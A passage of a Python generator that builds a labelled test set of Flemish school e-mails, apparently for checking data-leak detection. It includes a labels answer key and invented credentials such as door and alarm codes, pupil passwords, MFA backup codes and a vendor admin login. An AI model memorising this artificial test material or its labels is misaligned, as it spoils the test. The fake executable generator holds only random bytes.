        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 4 0 R >> >> /Contents 5 0 R >>",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>",
        b"<< /Length %d >>\nstream\n" % len(stream) + stream + b"\nendstream",
        ("<< /Title (%s) /Producer (Microsoft Word voor Microsoft 365) /CreationDate (D:20240902081500+02'00') >>"
         % esc(title)).encode("cp1252"),
    ]
    out = bytearray(b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n")
    offs = []
    for i, o in enumerate(objs, 1):
        offs.append(len(out))
        out += b"%d 0 obj\n" % i + o + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objs) + 1)
    for o in offs:
        out += b"%010d 00000 n \n" % o
    out += b"trailer\n<< /Size %d /Root 1 0 R /Info 6 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objs) + 1, xref)
    return bytes(out)


def make_jpg(seed, n=1800):
    rng = random.Random(seed)
    head = (b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x01\x00H\x00H\x00\x00"
            b"\xff\xe1\x00\x16Exif\x00\x00MM\x00*\x00\x00\x00\x08\x00\x00\x00\x00")
    body = bytes(rng.randrange(256) for _ in range(n)).replace(b"\xff", b"\xfe")
    return head + b"\xff\xdb\x00\x43\x00" + body + b"\xff\xd9"


def make_exe(seed, n=2400):
    rng = random.Random(seed)
    stub = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 44 + b"\x80\x00\x00\x00"
    stub += b"This program cannot be run in DOS mode.\r\r\n$" + b"\x00" * 7 + b"PE\x00\x00"
    return stub + bytes(rng.randrange(256) for _ in range(n))


# --------------------------------------------------------------------------
# signatures and text helpers
# --------------------------------------------------------------------------
SIG = {
    "dir": "Koen Vanderlinden\nDirecteur basisschool Stroom Wilsele\n%s\nT %s | GSM %s\nwww.stroom-wilsele.be"
           % (SCHOOL_ADDR, SCHOOL_TEL, DIR_GSM),
    "dir_m": "Koen Vanderlinden\nDirecteur basisschool Stroom Wilsele",
    "sec": "Greet Maes\nSecretariaat basisschool Stroom Wilsele\n%s\ntel. %s" % (SCHOOL_ADDR, SCHOOL_TEL),
    "sec_m": "Greet Maes\nSecretariaat basisschool",
    "zorg": "Hilde Wouters\nZorgcoördinator - zorgjuf\nBasisschool Stroom Wilsele\n(aanwezig op maandag, dinsdag en donderdag)",
    "opv": "Els Van den Broeck\nCoördinator voor- en naschoolse opvang\nBasisschool Stroom Wilsele\nOpvang (na 15u30): %s" % OPV_GSM,
    "opv_m": "Els Van den Broeck\nOpvang Stroom Wilsele",
    "ict": "Pieter Janssens\nICT-coördinator basisscholen Stroom",
    "bkh": "Martine Stevens\nBoekhouding - leerlingenrekeningen\nStroom basisschool Wilsele",
    "bkh_t": "Martine Stevens\nBoekhouding - leerlingenrekeningen\nStroom basisschool Wilsele\n%s (dinsdag en donderdag)" % SCHOOL_TEL,
}
DISCLAIMER = ("\n--\nDit bericht en eventuele bijlagen zijn uitsluitend bestemd voor de geadresseerde(n). "
              "Hebt u dit bericht per vergissing ontvangen, verwijder het dan en verwittig de afzender. "
              "Vermoedt u een datalek? Meld het aan privacy@lksd.ksleuven.be.\n")


def q(text, intro=None):
    """gmail/apple style quote"""
    lines = text.rstrip("\n").split("\n")
    out = "\n".join(("> " + ln) if ln else ">" for ln in lines)
    return ("\n%s\n\n%s\n" % (intro, out)) if intro else ("\n" + out + "\n")


def olq(frm, sent, to, subject, text, cc=None):
    """Outlook style quote block (no > prefixes)"""
    h = "\n________________________________\nVan: %s\nVerzonden: %s\nAan: %s\n" % (frm, sent, to)
    if cc:
        h += "CC: %s\n" % cc
    h += "Onderwerp: %s\n\n" % subject
    return h + text.rstrip("\n") + "\n"


def fwdq(frm, date, subject, to, text):
    return ("\n---------- Doorgestuurd bericht ---------\nVan: %s\nDate: %s\nSubject: %s\nTo: %s\n\n%s"
            % (frm, date, subject, to, text.rstrip("\n") + "\n"))


# --------------------------------------------------------------------------
# HTML helpers (Outlook flavoured)
# --------------------------------------------------------------------------
def _esc(s):
    return s.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")


OL_HEAD = ('<html xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office" '
           'xmlns:w="urn:schemas-microsoft-com:office:word" xmlns:m="http://schemas.microsoft.com/office/2004/12/omml" '
           'xmlns="http://www.w3.org/TR/REC-html40">\n<head>\n'
           '<meta http-equiv="Content-Type" content="text/html; charset=utf-8">\n'
           '<meta name="Generator" content="Microsoft Word 15 (filtered medium)">\n'
           '<style><!--\n/* Font Definitions */\n@font-face\n\t{font-family:Aptos;}\n'
           'p.MsoNormal, li.MsoNormal, div.MsoNormal\n\t{margin:0cm;\n\tfont-size:11.0pt;\n\tfont-family:"Aptos",sans-serif;}\n'
           'span.EmailStyle17\n\t{mso-style-type:personal-compose;}\n'
           '.MsoChpDefault\n\t{mso-style-type:export-only;}\n'
           '@page WordSection1\n\t{size:612.0pt 792.0pt;\n\tmargin:70.85pt 70.85pt 70.85pt 70.85pt;}\n'
           'div.WordSection1\n\t{page:WordSection1;}\n--></style>\n</head>\n'
           '<body lang="NL-BE" link="#467886" vlink="#96607D" style="word-wrap:break-word">\n'
           '<div class="WordSection1">\n')
OL_TAIL = "</div>\n</body>\n</html>\n"


def otable(rows, widths=None):
    out = ['<table class="MsoTableGrid" border="1" cellspacing="0" cellpadding="0" '
           'style="border-collapse:collapse;border:none">']
    for r, row in enumerate(rows):
        out.append("<tr>")
        for c, cell in enumerate(row):
            style = "border:solid windowtext 1.0pt;padding:0cm 5.4pt 0cm 5.4pt"
            if r == 0:
                style += ";background:#D9E2F3"
            txt = _esc(str(cell)) or "&nbsp;"
            if r == 0:
                txt = "<b>%s</b>" % txt
            out.append('<td valign="top" style="%s"><p class="MsoNormal">%s</p></td>' % (style, txt))
        out.append("</tr>")
    out.append("</table>")
    return "\n".join(out)


def ttable(rows):
    """plain-text rendering of a table, the way Outlook flattens it"""
    return "\n".join("\t".join(str(c) for c in row) for row in rows)


def ohtml(text, tables=()):
    """Outlook HTML from plain text; [[T0]], [[T1]] ... mark where tables go"""
    parts = []
    for para in text.rstrip("\n").split("\n"):
        m = re.fullmatch(r"\[\[T(\d)\]\]", para.strip())
        if m:
            parts.append(otable(tables[int(m.group(1))]))
        elif para.strip() == "":
            parts.append('<p class="MsoNormal"><o:p>&nbsp;</o:p></p>')
        else:
            parts.append('<p class="MsoNormal">%s<o:p></o:p></p>' % _esc(para))
    return OL_HEAD + "\n".join(parts) + "\n" + OL_TAIL


def unwrap(text):
    """undo the hard wrapping of the source: mail clients send one line per paragraph"""
    out = []
    for ln in text.split("\n"):
        prev = out[-1] if out else ""
        if (prev and ln.strip() and len(prev) >= 68 and "\t" not in prev and "\t" not in ln
                and not prev.lstrip().startswith(">")
                and not re.match(r"\s*(>|[-*]\s|\d+[.)]\s|\[\[)", ln)
                and not (ln.startswith(" ") and not re.match(r"\s{2,}\S", ln))
                and (not re.search(r"[.!?:)]$", prev.rstrip()) or len(ln.strip()) >= 40)):
            out[-1] = prev.rstrip() + " " + ln.strip()
        else:
            out.append(ln)
    return "\n".join(out)


def tplain(text, tables=()):
    def rep(m):
        return ttable(tables[int(m.group(1))])
    return re.sub(r"\[\[T(\d)\]\]", rep, text)


def simple_html(text):
    """gmail-ish html"""
    paras = text.rstrip("\n").split("\n")
    return ('<div dir="ltr">' + "".join("<div>%s</div>" % (_esc(p) if p else "<br>") for p in paras)
            + "</div>\n")


# --------------------------------------------------------------------------
# mail registry
# --------------------------------------------------------------------------
MAILS = []

RULES = ("password", "sensitive", "personal_data", "bcc", "private_account", "attachment", "recipient")
CATS = ("family", "psychosocial", "medical", "care", "financial")


def add(slug, date, frm, to, subject, text=None, *, html=None, cc=(), bcc=(), atts=(), charset="utf-8",
        cte=None, tags=(), mailer="outlook", reply=False, rules="", cats="", about="", mis=False, note="",
        lang="nl", tables=(), rfc822=None, importance=None, kind="", wrap=None, html_only=False):
    rules = rules.split()
    cats = cats.split()
    about = about.split()
    assert all(r in RULES for r in rules), (slug, rules)
    assert all(c in CATS for c in cats), (slug, cats)
    assert ("sensitive" in rules) == bool(cats), slug
    assert ("recipient" in rules) == bool(mis), slug
    assert all(a in PUP for a in about), (slug, about)
    MAILS.append(dict(slug=slug, date=date, frm=frm, to=list(to), cc=list(cc), bcc=list(bcc),
                      subject=subject, text=text, html=html, atts=list(atts), charset=charset, cte=cte,
                      tags=list(tags), mailer=mailer, reply=reply, rules=rules, cats=cats, about=about,
                      mis=mis, note=note, lang=lang, tables=tables, rfc822=rfc822,
                      importance=importance, kind=kind, html_only=html_only,
                      wrap=(mailer == "thunderbird") if wrap is None else wrap))


def fa(x):
    if isinstance(x, tuple):
        name, addr = x
        if not name:
            return addr
        if re.search(r'[,.;:@()<>"]', name):
            return '"%s" <%s>' % (name.replace('"', ''), addr)
        return "%s <%s>" % (name, addr)
    return x


def ad(x):
    return x[1] if isinstance(x, tuple) else x


def P(pid, which=1):
    """parent address of a pupil"""
    return PUP[pid]["p%d" % which]


# --------------------------------------------------------------------------
# building
# --------------------------------------------------------------------------
def tzoff(d):
    # Europe/Brussels: summer time from last Sunday of March to last Sunday of October
    def last_sunday(y, m):
        d0 = _dt.date(y, m, 31)
        return d0 - _dt.timedelta(days=(d0.weekday() + 1) % 7)
    start = last_sunday(d.year, 3)
    end = last_sunday(d.year, 10)
    summer = start <= d.date() < end
    return _dt.timezone(_dt.timedelta(hours=2 if summer else 1))


def mkdate(s):
    d = _dt.datetime.strptime(s, "%Y-%m-%d %H:%M")
    return d.replace(tzinfo=tzoff(d), second=(sum(map(ord, s)) * 7) % 60)


def _hex(rng, n):
    return "".join(rng.choice("0123456789ABCDEF") for _ in range(n))


def _uuid(rng):
    h = _hex(rng, 32)
    return "%s-%s-%s-%s-%s" % (h[:8], h[8:12], h[12:16], h[16:20], h[20:])


def msgid(rng, mailer, domain):
    if mailer in ("outlook", "owa"):
        host = "AM%dPR0%dMB%04d" % (rng.randrange(5, 10), rng.randrange(1, 9), rng.randrange(1000, 9999))
        return "<%s%s@%s.eurprd0%d.prod.outlook.com>" % (host, _hex(rng, 24), host, rng.randrange(1, 9))
    if mailer == "iphone":
        return "<%s@%s>" % (_uuid(rng), domain)
    if mailer == "gmail":
        al = "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789_-+"
        return "<CA%s@mail.gmail.com>" % "".join(rng.choice(al) for _ in range(44))
    if mailer == "android":
        return "<%s@email.android.com>" % _uuid(rng).lower()
    if mailer == "hotmail":
        return "<DB%dPR0%dMB%04d%s@DB%dPR0%dMB.eurprd0%d.prod.outlook.com>" % (
            rng.randrange(7, 9), rng.randrange(1, 9), rng.randrange(1000, 9999), _hex(rng, 20),
            rng.randrange(7, 9), rng.randrange(1, 9), rng.randrange(1, 9))
    return "<%s@%s>" % (_uuid(rng).lower(), domain)


def parent_id(rng, addr):
    dom = addr.split("@")[-1].strip(">")
    if dom == "gmail.com":
        return msgid(rng, "gmail", dom)
    if dom in ("hotmail.com", "outlook.com", "live.be"):
        return msgid(rng, "hotmail", dom)
    if dom in (DOM, SHORT):
        return msgid(rng, "outlook", dom)
    return "<%s@%s>" % (_uuid(rng).lower(), dom)


MAILERS = {
    "outlook": [("X-Mailer", None)],
    "iphone": [("X-Mailer", "iPhone Mail (21G93)")],
    "android": [("X-Mailer", "Samsung Mail")],
    "thunderbird": [("User-Agent", "Mozilla Thunderbird")],
}


def _subtype(fn):
    ext = fn.rsplit(".", 1)[-1].lower()
    return {
        "pdf": ("application", "pdf"),
        "csv": ("text", "csv"),
        "txt": ("text", "plain"),
        "jpg": ("image", "jpeg"),
        "jpeg": ("image", "jpeg"),
        "png": ("image", "png"),
        "docx": ("application", "vnd.openxmlformats-officedocument.wordprocessingml.document"),
        "xlsx": ("application", "vnd.openxmlformats-officedocument.spreadsheetml.sheet"),
        "xlsm": ("application", "vnd.ms-excel.sheet.macroEnabled.12"),
        "docm": ("application", "vnd.ms-word.document.macroEnabled.12"),
        "zip": ("application", "x-zip-compressed"),
        "exe": ("application", "x-msdownload"),
        "bat": ("application", "x-bat"),
        "ps1": ("application", "octet-stream"),
        "vbs": ("application", "octet-stream"),
        "scr": ("application", "octet-stream"),
        "iso": ("application", "octet-stream"),
        "ics": ("text", "calendar"),
    }.get(ext, ("application", "octet-stream"))


def build(n, m):
    rng = random.Random(SEED * 1000 + n)
    msg = EmailMessage()
    frm_addr = ad(m["frm"])
    dom = frm_addr.split("@")[1]
    mailer = m["mailer"]
    msg["From"] = fa(m["frm"])
    msg["To"] = ", ".join(fa(x) for x in m["to"]) if m["to"] else "undisclosed-recipients:;"
    if m["cc"]:
        msg["Cc"] = ", ".join(fa(x) for x in m["cc"])
    msg["Subject"] = m["subject"]
    msg["Date"] = mkdate(m["date"]).strftime("%a, %d %b %Y %H:%M:%S %z")
    msg["Message-ID"] = msgid(rng, mailer, dom)
    if m["reply"]:
        other = ad(m["to"][0]) if m["to"] else frm_addr
        pid = parent_id(rng, other)
        if isinstance(m["reply"], str):
            pid = parent_id(rng, m["reply"])
        msg["In-Reply-To"] = pid
        msg["References"] = pid
    if mailer in ("outlook", "owa"):
        msg["Thread-Topic"] = re.sub(r"^((RE|Re|AW|TR|FW|Fwd|FW)\s*:\s*)+", "", m["subject"])
        al = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"
        msg["Thread-Index"] = "A" + "".join(rng.choice(al) for _ in range(31)) + "=="
        msg["X-MS-Has-Attach"] = "yes" if (m["atts"] or m["rfc822"]) else ""
        msg["X-MS-TNEF-Correlator"] = ""
    for k, v in MAILERS.get(mailer, []):
        if v:
            msg[k] = v
    if mailer == "gmail":
        pass
    if m["importance"]:
        msg["Importance"] = m["importance"]
        msg["X-Priority"] = "1" if m["importance"] == "high" else "5"
    msg["MIME-Version"] = "1.0"

    text = m["text"]
    if text is not None and not m["wrap"]:
        text = unwrap(text)
    html = m["html"]
    tables = m["tables"]
    if text is not None and tables:
        plain = tplain(text, tables)
    else:
        plain = text
    if html is True:
        html = ohtml(text, tables)
    if m["html_only"]:
        plain = None
    elif html == "simple":
        html = simple_html(plain)
    cs = m["charset"]
    cte = m["cte"]
    if cte is None:
        if cs != "utf-8":
            cte = "8bit"
        elif mailer in ("outlook", "owa"):
            cte = "quoted-printable"
        else:
            cte = "8bit"
    if plain is not None:
        msg.set_content(plain, charset=cs, cte=cte)
        if html:
            msg.add_alternative(html, subtype="html", charset=cs,
                                cte="quoted-printable" if cte == "8bit" else cte)
    else:
        msg.set_content(html, subtype="html", charset=cs, cte=cte)
    for fn, data in m["atts"]:
        mt, st = _subtype(fn)
        if isinstance(data, str):
            data = data.encode("utf-8")
        msg.add_attachment(data, maintype=mt, subtype=st, filename=fn)
    if m["rfc822"] is not None:
        msg.add_attachment(m["rfc822"])
    if mailer in ("outlook", "owa"):
        msg["Content-Language"] = {"nl": "nl-BE", "fr": "fr-BE", "en": "en-GB"}[m["lang"]]
    # deterministic boundaries, tidy sub-part headers
    k = 0
    for part in msg.walk():
        if part is not msg and "MIME-Version" in part and "Message-ID" not in part:
            del part["MIME-Version"]
        if part.is_multipart() and part.get_content_maintype() == "multipart":
            part.set_boundary("_%03d%d_%s_" % (n, k, _hex(rng, 28)) if mailer in ("outlook", "owa")
                              else "%s%03d%d" % (_hex(rng, 20).lower(), n, k))
            k += 1
    data = msg.as_bytes(policy=policy.SMTP)
    return data, msg


def fmt_tags(m, msg):
    tags = []
    body = msg.get_body(preferencelist=("plain", "html"))
    has_plain = any(p.get_content_type() == "text/plain" and not p.get_filename() for p in msg.walk())
    has_html = any(p.get_content_type() == "text/html" and not p.get_filename() for p in msg.walk())
    tags.append("alt" if (has_plain and has_html) else ("plain" if has_plain else "html-only"))
    for t in m["tags"]:
        if t not in tags:
            tags.append(t)
    if m["atts"] or m["rfc822"] is not None:
        tags.append("mixed")
    for fn, _ in m["atts"]:
        t = "attachment-" + fn.rsplit(".", 1)[-1].lower()
        if t not in tags:
            tags.append(t)
    if m["rfc822"] is not None:
        tags.append("attachment-rfc822")
    cte = (body.get("Content-Transfer-Encoding") or "").lower()
    cs = (body.get_content_charset() or "").lower()
    pre = "plain" if body.get_content_type() == "text/plain" else "html"
    if cte == "quoted-printable":
        tags.append(pre + "-qp")
    elif cte == "base64":
        tags.append(pre + "-base64")
    if cs == "windows-1252":
        tags.append(pre + "-cp1252")
    elif cs == "iso-8859-1":
        tags.append(pre + "-latin1")
    if m["bcc"]:
        tags.append("bcc-envelope")
    return tags


def yq(s):
    return '"%s"' % s.replace("\\", "\\\\").replace('"', '\\"')


def write_all():
    for fn in os.listdir(HERE):
        if fn.endswith(".eml"):
            os.remove(os.path.join(HERE, fn))
    order = sorted(range(len(MAILS)), key=lambda i: (MAILS[i]["date"], i))
    out = ["# batch44 - primary school Wilsele (kleuter + lager): blind labelled outbound mail", ""]
    slugs = set()
    for n, i in enumerate(order, 1):
        m = MAILS[i]
        assert m["slug"] not in slugs, m["slug"]
        slugs.add(m["slug"])
        fn = "%03d-%s.eml" % (n, m["slug"])
        data, msg = build(n, m)
        with open(os.path.join(HERE, fn), "wb") as fh:
            fh.write(data)
        rcpt = []
        for x in m["to"] + m["cc"] + m["bcc"]:
            a = ad(x)
            if a not in rcpt:
                rcpt.append(a)
        out.append("%s:" % fn)
        out.append("  rules: [%s]" % ", ".join(r for r in RULES if r in m["rules"]))
        if m["cats"]:
            out.append("  categories: {sensitive: [%s]}" % ", ".join(c for c in CATS if c in m["cats"]))
        out.append("  mail_from: %s" % ad(m["frm"]))
        out.append("  rcpt: [%s]" % ", ".join(rcpt))
        out.append("  about: [%s]" % ", ".join(sorted(m["about"])))
        out.append("  misdirected: %s" % ("true" if m["mis"] else "false"))
        out.append("  note: %s" % yq(m["note"]))
        out.append("  lang: %s" % m["lang"])
        out.append("  format: [%s]" % ", ".join(fmt_tags(m, msg)))
        out.append("")
    with open(os.path.join(HERE, "labels.yaml"), "w", encoding="utf-8", newline="\n") as fh:
        fh.write("\n".join(out))
    write_roster(os.path.join(HERE, "roster.csv"))
    return order


# ==========================================================================
# THE MAILS
# ==========================================================================
_rw = random.Random(SEED + 7)
WORDS = ["tijger", "vlinder", "appel", "raket", "zon", "fiets", "regen", "draak", "kikker", "wolk",
         "banaan", "ster", "maan", "pinguin", "trein", "bloem", "paard", "ridder", "piraat", "koala"]


def kidpw():
    return "%s%02d" % (_rw.choice(WORDS), _rw.randrange(10, 99))


def startpw():
    return "%s-%s-%d" % (_rw.choice(WORDS).capitalize(), _rw.choice(WORDS).capitalize(), _rw.randrange(10, 99))


# ---------------------------------------------------------------- passwords
add("deurcode-opvang-welkom", "2024-08-28 14:10", S["opv"], [S["opv3"]],
    "Welkom in de opvang + praktische afspraken",
    T("""
    Dag Yasmine,

    Nog eens van harte welkom in ons opvangteam! Hieronder al wat praktische zaken voor maandag, dan moet je
    niet alles in één keer onthouden op je eerste dag.

    - De ochtendopvang start om 7u00. Je bent er graag om 6u55, de eerste ouders staan soms al aan de deur.
    - Je komt binnen langs de zijdeur aan de Kerkstraat (naast de fietsenstalling). De code van die deur is
      2719, daarna op het sleuteltje drukken. Het alarm staat 's ochtends al af, dat doet Luc.
    - Aanwezigheden registreer je op de tablet in de keuken, die ligt in de bovenste lade.
    - Om 8u15 brengen we de kleuters naar hun klas, de lagere schoolkinderen gaan zelf naar de speelplaats.

    Als er iets is, mag je me altijd bellen. Ik ben er maandag zelf ook om 7u.

    Tot maandag!

    """) + SIG["opv"], rules="password personal_data", kind="password",
    note="door code of the after-school care in a welcome mail; opvang GSM in signature")

add("alarmcode-schoolfeest-zaterdag", "2024-09-27 21:48", S["log"], [S["3a"]],
    "Re: sleutel schoolfeest",
    T("""
    Tom, sleutel ligt bij Greet in de bovenste schuif, naam erop.
    Alarm: 5 8 0 3 en dan OFF. Bij het buitengaan 5803 ON, dan heb je 45 sec om buiten te zijn.
    Niet via de turnzaal buitengaan, die deur zit op een andere zone.
    Als het toch afgaat bel mij 0472 88 14 53, niet de firma.
    Luc

    Verzonden vanaf mijn iPhone
    """) + q(T("""
    Hoi Luc, ik ben zaterdag de eerste om op te zetten voor het schoolfeest (rond 8u). Hoe zit het met
    de sleutel en het alarm?
    Tom
    """), "Op 27 sep. 2024 om 19:02 heeft Tom Hermans <tom.hermans@sintpieterscollege.be> het volgende geschreven:"),
    mailer="iphone", reply=True, tags=["reply", "phone"], rules="password personal_data", kind="password",
    note="alarm code given twice (spaced and joined) in a phone reply; mobile number of the caretaker")

add("sleutelkluisje-turnzaal-volley", "2024-09-05 10:20", S["lo"], [X["volley"]],
    "Sleutelkluisje turnzaal - nieuwe combinatie",
    T("""
    Beste,

    Het sleutelkluisje aan de ingang van de turnzaal is vervangen (het oude was kapot). Vanaf maandag staat de
    combinatie op 0-4-1-9. Na de training de sleutel terug in het kluisje en de cijfers verdraaien aub, vorige
    week stond het open op de originele code.

    De lichten van de zaal gaan automatisch uit om 22u30.

    Sportieve groeten,
    Wouter Lemmens
    Leerkracht LO - basisschool Stroom Wilsele
    """), rules="password", kind="password",
    note="key-safe combination sent to an outside sports club")

ipad_rows = [["iPad", "Klas", "Toegangscode", "Opmerking"],
             ["iPad 01 - 08", "3A", "240613", "kar 1, lokaal B.104"],
             ["iPad 09 - 16", "3B", "240613", "kar 1, om de week wisselen"],
             ["iPad 17 - 24", "4A/4B", "817294", "kar 2"],
             ["iPad 25 - 30", "zorgklas", "550318", "niet uitlenen aan andere klassen"]]
add("ipad-codes-derde-vierde", "2024-09-09 16:05", S["ict"], [S["3a"], S["3b"]], "Codes klas-iPads",
    T("""
    Dag Tom, dag Eline,

    De iPads zijn opnieuw ingesteld na de update van deze zomer. Hieronder de codes waarmee jullie ze
    ontgrendelen. Graag niet aan de kinderen geven, zij krijgen de iPad open van jullie.

    [[T0]]

    Laadkar 1 staat in de gang bij 3A, de sleutel van de kar hangt in de leraarskamer.

    Groetjes,

    """) + SIG["ict"], html=True, html_only=True, tables=[ipad_rows], tags=["table"], rules="password", kind="password",
    note="unlock codes of the class iPads in an Outlook table")

_l2a = klas("2A")
_bingel_csv = "Voornaam;Naam;Gebruikersnaam;Wachtwoord\r\n" + "".join(
    "%s;%s;%s;%s\r\n" % (p["first"], p["last"], "%s%s2a" % (norm(p["first"]), norm(p["last"])[:3]), kidpw())
    for p in _l2a)
add("bingel-logins-2a-interim", "2024-10-14 17:31", S["2a"], [S["int"]], "Bingel 2A",
    T("""
    Hoi Jana,

    Zoals beloofd de logins van Bingel voor 2A in bijlage, dan kan je morgen meteen verder met de
    oefeningen van thema 3. De kinderen kennen hun wachtwoord normaal vanbuiten, maar er zijn er altijd
    een paar die het vergeten (meestal dezelfde...).

    Succes morgen en dank je wel om over te nemen!
    Annelies
    """), atts=[("Bingel_2A_logins.csv", _bingel_csv.encode("cp1252", "replace"))], rules="password", kind="password",
    note="CSV of pupil Bingel passwords for the interim teacher; names but no facts about pupils")

add("smartschool-startwachtwoord-noah", "2024-09-03 11:42", S["sec"], [P("P0126")],
    "Smartschool - gegevens co-account ouder Noah Janssens",
    T("""
    Beste mevrouw Janssens,

    Welkom op onze school! Hieronder vindt u de gegevens om in te loggen op Smartschool als ouder van Noah.

    Adres: https://stroom-wilsele.smartschool.be
    Gebruikersnaam: noah.janssens
    Account: co-account 1
    Startwachtwoord: Wilsele-Kiwi-73

    Bij de eerste aanmelding wordt u gevraagd om zelf een nieuw wachtwoord te kiezen.
    Het tweede co-account (voor mijnheer Janssens) maken we aan zodra we zijn e-mailadres hebben.

    Met vriendelijke groeten,

    """) + SIG["sec"], about="P0126", rules="password personal_data", kind="password",
    note="parent start password spelled out; school phone in signature; addressed to Noah's own parent")

add("wifi-quizavond-oudercomite", "2024-11-12 20:15", S["dir"], [X["oc_vz"]], "wifi quizavond",
    T("""
    Dag Pieter-Jan,

    Voor de quizavond van vrijdag: jullie kunnen in de refter op het gastennetwerk.
    Netwerk: Stroom-Gast
    Sleutel: Dijle!Quiz2024

    Het personeelsnetwerk mag niet gebruikt worden voor de beamer, dat heeft Pieter liever niet.
    Veel succes en tot vrijdag!

    Koen
    """), mailer="iphone", tags=["phone"], rules="password", kind="password",
    note="Wi-Fi key for the parents' committee quiz night, sent to a parent")

add("kopieercode-interim", "2024-10-07 08:35", S["sec"], [S["int"]], "Je kopieercode",
    T("""
    Dag Jana,

    Je persoonlijke code voor het kopieertoestel (Ricoh in de leraarskamer) is 6620.
    Kleurkopies enkel na toestemming van Koen aub. Papier staat in de kast ernaast, als het op is gewoon
    even laten weten.

    Groetjes,

    """) + SIG["sec"], rules="password personal_data", kind="password",
    note="copier PIN for a new teacher; school phone in signature")

add("backupcodes-tweestapsverificatie", "2024-09-16 15:55", S["ict"], [S["dir"]],
    "Back-upcodes Microsoft-account directie",
    T("""
    Koen,

    Zoals afgesproken: hieronder de back-upcodes voor de tweestapsverificatie van je directie-account, voor
    als je gsm stuk of kwijt is. Elke code werkt maar één keer. Print ze af en leg ze in de kluis, en
    verwijder deze mail daarna.

    4829 1037
    5561 0924
    7730 2158
    1194 6682
    3306 4471
    8842 5019

    Pieter
    """), rules="password", kind="password",
    note="MFA recovery codes in a list")

add("sms-code-bank", "2024-12-03 09:12", S["dir"], [S["bkh"]], "code",
    T("""
    Martine, de code die net binnenkwam op mijn gsm voor de overschrijving: 483920
    Snel ingeven, is maar 5 min geldig.
    K

    Verzonden vanaf mijn iPhone
    """), mailer="iphone", tags=["phone"], rules="password", kind="password",
    note="one-time SMS code forwarded so a colleague can confirm a bank transfer")

add("klaslaptop-wachtwoord-gespeld", "2024-10-21 12:40", S["k3a"], [S["kinv"]], "laptop klas",
    T("""
    Ingrid,

    Voor morgen als ik op nascholing ben: de laptop van de klas (die met de blauwe sticker) vraagt soms
    opnieuw het wachtwoord na een update. Het is alles in kleine letters:
    k - a - b - o - u - t - e - r
    en dan het jaartal 2024 en een uitroepteken erachter.

    Het filmpje over de herfst staat op het bureaublad. Fijne dag met de kleintjes!
    Karen
    """), rules="password", kind="password",
    note="class laptop password spelled letter by letter plus year and sign")

add("bingel-milan-fr", "2024-10-02 18:20", S["4a"], [P("P0201")], "Bingel - identifiants de Milan",
    T("""
    Bonjour Madame Dumont,

    Comme convenu lors de notre entretien, voici les identifiants de Milan pour Bingel, pour qu'il puisse
    s'exercer un peu à la maison en calcul:

    nom d'utilisateur : milan.dumont4a
    mot de passe : vlinder47

    Il peut faire les exercices du thème 2 (les tables de 6 et 7). Pas plus de 20 minutes par jour, c'est
    largement suffisant.

    Bien à vous,
    Marijke Aerts
    Institutrice 4A - école primaire Stroom Wilsele
    """), lang="fr", about="P0201", rules="password", kind="password",
    note="French mail with a pupil's Bingel password, to his own mother")

add("mdm-admin-login-support", "2024-11-06 13:50", S["ict"], [X["mdm"]], "RE: Case #48213 - iPads not enrolling",
    T("""
    Hi,

    Thanks for getting back to me. As requested, here is a temporary admin login for our school instance so
    your engineer can have a look at the enrollment profile:

    URL: https://stroom-wilsele.classpad-mdm.com
    User: stroom-admin
    Password: Wils3le#MDM-2024

    I will change the password again on Friday, so please have a look before then. The affected devices are
    the six iPads in our care room (serials ending in ...4F2, ...4F9, ...51A, ...51C, ...522, ...530).

    Kind regards,
    Pieter Janssens
    ICT coordinator, Stroom primary schools (Leuven)
    """) + q(T("""
    Dear Pieter,
    To investigate further we would need temporary access to your console. Could you provide a login?
    Best regards,
    ClassPad Support
    """), "On Wed, 6 Nov 2024 at 11:02, ClassPad MDM Support <support@classpad-mdm.com> wrote:"),
    reply=True, tags=["reply"], lang="en", rules="password", kind="password",
    note="English reply handing an admin password to a vendor")

add("klasfoto-toegangscode-louise", "2024-11-19 10:05", S["sec"], [P("P0193")],
    "Klasfoto's - code voor de online galerij",
    T("""
    Beste mevrouw Verstraeten,

    U liet weten dat u het kaartje van de fotograaf niet teruggevonden hebt in de boekentas van Louise.
    Hierbij de persoonlijke code om de foto's te bekijken en te bestellen:

    Website: www.fotolichtpunt.be/scholen
    Toegangscode: KF-3B-8812-WX

    Met deze code ziet u de individuele foto van Louise en de klasfoto van 3B. Bestellen kan tot 6 december.

    Vriendelijke groeten,

    """) + SIG["sec_m"], about="P0193", rules="password", kind="password",
    note="photographer gallery access code opens an account with the child's photos; correctly addressed")

_co_rows = [["Leerling", "Gebruikersnaam", "Startwachtwoord co-account 1", "Startwachtwoord co-account 2"]]
for p in klas("3B")[:9]:
    _co_rows.append([full(p["id"]), "%s.%s" % (norm(p["first"]), norm(p["last"])), startpw(),
                     startpw() if p["p2"] else "-"])
add("coaccounts-3b-infoavond", "2024-09-10 12:02", S["sec"], [S["3b"]],
    "Co-accounts voor de infoavond 3B",
    T("""
    Dag Eline,

    Voor de infoavond van donderdag: hieronder de startwachtwoorden van de ouders die nog nooit ingelogd
    hebben op Smartschool. Kan jij ze op een briefje aan de ouders geven? (Niet in de boekentas steken aub,
    de vorige keer zijn er een paar verloren gegaan.)

    [[T0]]

    Ouders die niet komen krijgen hun gegevens via het secretariaat.

    Groetjes,

    """) + SIG["sec"], html=True, tables=[_co_rows], tags=["table"], rules="password personal_data",
    kind="password", note="HTML table of parent start passwords; school phone in signature; no facts about pupils")

_l6a = klas("6A")
_xl = [["Klas", "Voornaam", "Naam", "Gebruikersnaam", "Startwachtwoord"]] + [
